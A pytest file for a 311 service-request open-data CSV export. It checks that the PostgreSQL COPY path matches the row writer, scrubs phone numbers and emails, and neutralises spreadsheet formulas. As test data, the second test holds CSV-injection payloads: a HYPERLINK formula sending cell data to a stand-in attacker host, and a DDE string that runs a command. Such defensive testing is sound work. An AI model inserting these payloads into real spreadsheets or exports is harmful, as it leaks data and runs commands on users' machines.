"""On PostgreSQL the CSV export streams COPY's output: the same file, byte for byte, as the
row-by-row writer's (times in the city's zone, blanks, floats, scrubbed free text, quoted
newlines and carriage returns, text that would run as a formula made inert)."""

import csv
import io

import pytest
from django.db import connection

from care311.analytics.opendata.copy_csv import copy_csv
from care311.analytics.opendata.rows import public_rows, published_requests
from care311.analytics.opendata.writers import write_csv
from care311.service_requests.models import ServiceRequest

pytestmark = [
    pytest.mark.django_db,
    pytest.mark.skipif(connection.vendor != "postgresql", reason="COPY is PostgreSQL's"),
]


def records(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_it_writes_what_the_row_writer_writes(nyc, residents_requests):
    ServiceRequest.objects.filter(pk=residents_requests[0].pk).update(
        description='Line one,\n"quoted" line two at 918-555-0101', status_notes="a\r\nb"
    )
    ServiceRequest.objects.filter(pk=residents_requests[1].pk).update(
        description="Write to ana (AT) example.org or call "
        "\u0669\u0661\u0668-\u0665\u0665\u0665-\u0660\u0661\u0663\u0664",
        closure_reason="",
    )
    # No three digits in a row: only the "+" and a digit tell the database to look.
    ServiceRequest.objects.filter(pk=residents_requests[2].pk).update(
        description="Ring +33 1 23 45 67 89", status_notes="", closure_reason=""
    )
    by_rows, by_copy = io.StringIO(), io.StringIO()

    written = write_csv(public_rows(), by_rows)
    copied = copy_csv(published_requests(), by_copy)

    assert "Ring [phone removed]" in by_copy.getvalue()
    assert copied == written == 1003
    assert records(by_copy.getvalue()) == records(by_rows.getvalue())
    assert by_copy.getvalue() == by_rows.getvalue()
    assert "[phone removed]" in by_copy.getvalue()
    assert "Write to [email removed] or call [phone removed]" in by_copy.getvalue()


def test_it_makes_formulas_inert_as_the_row_writer_does(residents_requests):
    first, second, third = residents_requests[:3]
    ServiceRequest.objects.filter(pk=first.pk).update(
        description='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        address="@SUM(1+1)*cmd|'/C calc'!A0",
    )
    ServiceRequest.objects.filter(pk=second.pk).update(
        status_notes="\r=1+1", closure_reason="-2+3", zipcode="+1", description="\tTab"
    )
    ServiceRequest.objects.filter(pk=third.pk).update(
        description="A lone\rcarriage return", status_notes="", closure_reason=""
    )
    by_rows, by_copy = io.StringIO(), io.StringIO()

    written = write_csv(public_rows(), by_rows)
    copied = copy_csv(published_requests(), by_copy)

    assert copied == written == 3
    assert by_copy.getvalue() == by_rows.getvalue()
    assert ",'@SUM(1+1)*cmd|'/C calc'!A0," in by_copy.getvalue()
    assert '"\'\r=1+1"' in by_copy.getvalue()
    assert '"A lone\rcarriage return"' in by_copy.getvalue()
